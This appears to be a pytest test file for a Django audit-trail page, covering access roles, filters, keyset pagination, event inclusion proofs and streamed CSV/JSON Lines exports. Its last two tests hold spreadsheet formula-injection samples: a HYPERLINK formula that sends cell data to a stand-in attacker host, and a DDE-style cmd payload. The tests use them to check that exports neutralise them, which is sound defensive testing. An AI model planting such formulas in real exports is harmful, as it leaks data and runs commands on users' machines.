"""The audit trail pages: who may read them, the filters, keyset pages, an event with its values and proof,
and the streamed CSV and JSON Lines exports with the checkpoint that covers them.
"""

from __future__ import annotations

import csv
import datetime
import html as html_lib
import io
import json

import pytest
from django.db import transaction
from django.http import StreamingHttpResponse
from django.urls import reverse

from audit import checkpoints, log, signing, trail, verifier, vocabulary
from audit.models import AuditEvent
from tests.factories import SYSTEM, World
from tests.unit.conftest import client_for

vocabulary.register("test.trail", "An event written by the audit trail page tests.")
DASH = "\N{EN DASH}"

TRAIL = "/audit/"


def _events(count: int, *, actor: object = SYSTEM, reason: str = "") -> None:
    with transaction.atomic():
        log.record_many(
            [log.PendingEvent("test.trail", "thing", str(i), new={"i": i}, reason=reason) for i in range(count)],
            actor=actor,  # type: ignore[arg-type]
        )


def _body(response: StreamingHttpResponse) -> str:
    return b"".join(response.streaming_content).decode()  # type: ignore[arg-type]


@pytest.fixture
def released(world: World, ci_account, lead, release_manager):
    release = world.full_release(42, by=ci_account, approver=lead)
    world.deploy(world.endpoint(), release, by=release_manager)
    return release


# Who may read it ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "status"), [("auditor", 200), ("lead", 200), ("oncall", 403), ("release_manager", 403)]
)
def test_auditors_and_ml_leads_read_the_trail(persona, status, request, released):
    client = client_for(request.getfixturevalue(persona))
    assert client.get(TRAIL).status_code == status
    seq = AuditEvent.objects.order_by("seq").first().seq
    assert client.get(f"/audit/events/{seq}/").status_code == status
    assert client.get("/audit/export.csv").status_code == status


def test_the_public_checkpoint_stays_public(client, released):
    with transaction.atomic():
        checkpoints.issue_checkpoint()
    assert client.get("/audit/checkpoint").status_code == 200


# Filters -----------------------------------------------------------------------------------------


def test_every_event_newest_first_with_plain_words_and_a_link_to_its_object(auditor, released):
    html = client_for(auditor).get(TRAIL).content.decode()
    newest = AuditEvent.objects.order_by("-seq").first()
    assert html.index(f"#{newest.seq}<") < html.index(f"#{newest.seq - 1}<")
    assert html_lib.escape(vocabulary.describe("release.approved")) in html
    assert f'href="{reverse("releases:release", args=["churn-v42"])}"' in html
    assert f"<strong>{AuditEvent.objects.count()}</strong> events match" in html


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("actor=lead", lambda e: e.actor == "lead"),
        ("action=release.approved", lambda e: e.action == "release.approved"),
        ("object=release:churn-v42", lambda e: (e.object_type, e.object_key) == ("release", "churn-v42")),
        ("endpoint=churn-scoring", lambda e: (e.object_type, e.object_key) == ("endpoint", "churn-scoring")),
        ("q=churn-v42", lambda e: "churn-v42" in e.object_key or "churn-v42" in e.reason),
    ],
)
def test_each_filter_keeps_exactly_the_events_it_names(query, expected, auditor, released):
    html = client_for(auditor).get(f"{TRAIL}?{query}").content.decode()
    wanted = [e for e in AuditEvent.objects.all() if expected(e)]
    assert wanted, "the world has events of this kind"
    assert f"<strong>{len(wanted)}</strong> event" in html
    for event in AuditEvent.objects.all():
        link = f'href="/audit/events/{event.seq}/"'
        assert (link in html) == (event in wanted), (query, event)


def test_the_release_filter_keeps_its_chain_and_its_deployments(auditor, released, world, ci_account, lead):
    world.full_release(43, by=ci_account, approver=lead, dataset="churn-train:18")
    html = client_for(auditor).get(f"{TRAIL}?release=churn-v42").content.decode()
    assert "churn-v43" not in html
    assert "dataset_version:churn-train:17" in html
    assert "deployment.recorded" in html


def test_a_time_range_is_from_inclusive_to_exclusive_in_utc(auditor, released):
    first = AuditEvent.objects.order_by("seq").first()
    minute = first.at.strftime("%Y-%m-%dT%H:%M")
    client = client_for(auditor)
    assert "No events match these filters." in client.get(f"{TRAIL}?to={minute}").content.decode()
    everything = client.get(f"{TRAIL}?from={minute}").content.decode()
    assert f"<strong>{AuditEvent.objects.count()}</strong> events match" in everything
    # The same moment written with its offset names the same instant.
    shifted = (first.at.astimezone(datetime.timezone(datetime.timedelta(hours=2)))).strftime("%Y-%m-%dT%H:%M%z")
    assert "No events match" in client.get(TRAIL, {"to": shifted[:-2] + ":" + shifted[-2:]}).content.decode()


def test_the_request_id_filter_keeps_one_requests_events(auditor, oncall, released):
    refused = client_for(oncall).post(
        "/datasets/churn-train/17/quarantine/", {"reason": "looks off"}, HTTP_X_REQUEST_ID="trace-me-1234"
    )
    assert refused.status_code == 403
    tagged = list(AuditEvent.objects.filter(request_id="trace-me-1234"))
    assert len(tagged) == 1
    html = client_for(auditor).get(TRAIL, {"request": "trace-me-1234"}).content.decode()
    assert f"<strong>{len(tagged)}</strong> event" in html
    for event in AuditEvent.objects.exclude(request_id="trace-me-1234"):
        assert f'href="/audit/events/{event.seq}/"' not in html


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("action=release.deleted", "“release.deleted” is not an action this log records."),
        ("object=churn-v42", "does not name an object: use type:key"),
        ("release=churn-v99", "There is no release named “churn-v99”."),
        ("from=yesterday", "From: “yesterday” is not a date and time."),
        ("from=2026-11-02T00:00&to=2026-11-01T00:00", "The time range is empty"),
    ],
)
def test_a_filter_that_cannot_be_understood_is_named_not_a_server_error(query, message, auditor, released):
    response = client_for(auditor).get(f"{TRAIL}?{query}")
    assert response.status_code == 400
    assert message in response.content.decode()
    export = client_for(auditor).get(f"/audit/export.csv?{query}")
    assert export.status_code == 400
    assert message in export.content.decode()


def test_a_filter_matching_nothing_says_so(auditor, released):
    html = client_for(auditor).get(f"{TRAIL}?actor=nobody").content.decode()
    assert "No events match these filters." in html
    assert "<strong>0</strong> events match" in html


# Keyset pages ------------------------------------------------------------------------------------


def test_pages_are_keyed_on_the_sequence_number_with_exact_totals(auditor, db):
    client = client_for(auditor)  # signing in is itself an event
    _events(120)
    seqs = list(AuditEvent.objects.filter(action="test.trail").order_by("-seq").values_list("seq", flat=True))
    base = f"{TRAIL}?action=test.trail"
    first = client.get(base).content.decode()
    assert "<strong>120</strong> events match" in first
    assert f"/audit/events/{seqs[0]}/" in first
    assert f"/audit/events/{seqs[49]}/" in first
    assert f"/audit/events/{seqs[50]}/" not in first
    assert f"before={seqs[49]}" in first
    assert f"1{DASH}50 of 120 events" in first
    assert 'rel="prev"' not in first
    second = client.get(f"{base}&before={seqs[49]}").content.decode()
    assert f"/audit/events/{seqs[50]}/" in second
    assert f"/audit/events/{seqs[99]}/" in second
    assert f"/audit/events/{seqs[49]}/" not in second
    assert f"51{DASH}100 of 120 events" in second
    assert f"after={seqs[50]}" in second
    third = client.get(f"{base}&before={seqs[99]}").content.decode()
    assert f"/audit/events/{seqs[119]}/" in third
    assert 'rel="next"' not in third
    assert "<strong>120</strong> events match" in third
    assert f"101{DASH}120 of 120 events" in third
    # Back to newer events: the page that ends just above the first event shown.
    newer = client.get(f"{base}&after={seqs[100]}").content.decode()
    assert f"51{DASH}100 of 120 events" in newer
    assert f"/audit/events/{seqs[50]}/" in newer
    # A sequence number past either end shows the page at that end.
    assert f"1{DASH}50 of 120 events" in client.get(f"{base}&after={seqs[0]}").content.decode()
    assert f"71{DASH}120 of 120 events" in client.get(f"{base}&before=1").content.decode()  # the oldest 50
    # Unfiltered, the total and each position are read from the sequence numbers: the log has no gaps.
    everything = client.get(TRAIL).content.decode()
    total = AuditEvent.objects.count()
    assert f"<strong>{total}</strong> events match" in everything
    assert f"51{DASH}100 of {total} events" in client.get(TRAIL, {"before": total - 49}).content.decode()


@pytest.mark.parametrize("before", ["²", "-1", "1e3", "x", "9" * 30])
def test_a_before_that_is_not_a_sequence_number_means_the_newest_page(before, auditor, db):
    _events(3)
    response = client_for(auditor).get(TRAIL, {"before": before})
    assert response.status_code == 200
    assert "/audit/events/3/" in response.content.decode()


# One event ---------------------------------------------------------------------------------------


def test_an_event_shows_old_and_new_side_by_side_and_its_inclusion_proof(auditor, released):
    client = client_for(auditor)
    with transaction.atomic():
        checkpoints.issue_checkpoint()
    _events(1)  # after the newest checkpoint
    newest = AuditEvent.objects.order_by("-seq").first()
    assert (
        "Not yet checkpointed: no signed checkpoint covers event"
        in client.get(f"/audit/events/{newest.seq}/").content.decode()
    )
    event = AuditEvent.objects.filter(action="deployment.recorded").get()
    html = client.get(f"/audit/events/{event.seq}/").content.decode()
    for key, value in event.new.items():
        assert (
            f'<th scope="row">{key}</th><td><code>—</code></td><td><code>{html_lib.escape(str(value))}</code></td>'
            in html
        )
    checkpoint = checkpoints.latest()
    proof = html.split('<pre class="proof">', 1)[1].split("</pre>", 1)[0]
    index, hashes, note = verifier.parse_tlog_proof(html_lib.unescape(proof))
    assert index == event.seq - 1
    assert note.startswith(f"release-lineage\n{checkpoint.size}\n")
    body, _ = verifier.open_checkpoint(note, signing.public_key_raw())
    leaf = verifier.leaf_hash(bytes.fromhex(event.hash))
    assert verifier.verify_inclusion(index, body.size, leaf, hashes, body.root)


def test_an_unknown_event_is_a_404(auditor, db):
    assert client_for(auditor).get("/audit/events/999/").status_code == 404


# Exports -----------------------------------------------------------------------------------------


def test_the_csv_export_is_streamed_oldest_first_with_the_filter(auditor, released):
    response = client_for(auditor).get("/audit/export.csv?actor=lead")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    expected = list(AuditEvent.objects.filter(actor="lead").order_by("seq"))
    assert [int(r["seq"]) for r in rows] == [e.seq for e in expected]
    assert all(r["actor"] == "lead" for r in rows)
    approved = next(r for r in rows if r["action"] == "release.approved")
    assert json.loads(approved["new"])["meaning"] == "Approved for production"
    assert approved["hash"] == next(e.hash for e in expected if e.action == "release.approved")


def test_the_json_lines_export_ends_with_the_checkpoint_that_covers_it(auditor, released):
    with transaction.atomic():
        checkpoint = checkpoints.issue_checkpoint()
    response = client_for(auditor).get("/audit/export.jsonl")
    lines = [json.loads(line) for line in _body(response).splitlines()]
    *events, trailer = lines
    assert [e["seq"] for e in events] == list(AuditEvent.objects.order_by("seq").values_list("seq", flat=True))
    assert trailer["checkpoint"]["size"] == checkpoint.size
    assert trailer["checkpoint"]["note"].startswith(f"release-lineage\n{checkpoint.size}\n")
    assert trailer["covered"] is (events[-1]["seq"] <= checkpoint.size)
    assert response["X-Audit-Checkpoint-Size"] == str(checkpoint.size)
    # Each exported event still hashes to what the log holds.
    stored = {e.seq: e.hash for e in AuditEvent.objects.all()}
    assert all(stored[e["seq"]] == e["hash"] for e in events)


def test_a_typed_reason_that_looks_like_a_formula_is_exported_as_text(auditor, db):
    _events(1, reason='=HYPERLINK("http://evil.example/?"&A1,"click")')
    rows = list(csv.DictReader(io.StringIO(_body(client_for(auditor).get("/audit/export.csv?action=test.trail")))))
    assert [row["reason"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")']
    # What the hash covers is the reason as recorded, shown unchanged on the event's own page.
    assert AuditEvent.objects.get(action="test.trail").reason.startswith("=HYPERLINK(")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd\\|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("%0A", "'%0A"),
        ("rolled back: = drift", "rolled back: = drift"),
        (-1, "-1"),
        ("-1.5", "-1.5"),
    ],
)
def test_every_csv_export_neutralises_formula_cells_and_keeps_numbers(cell, written):
    lines = list(trail.csv_lines(["value"], [[cell]]))
    assert next(csv.reader(io.StringIO(lines[1]))) == [written]
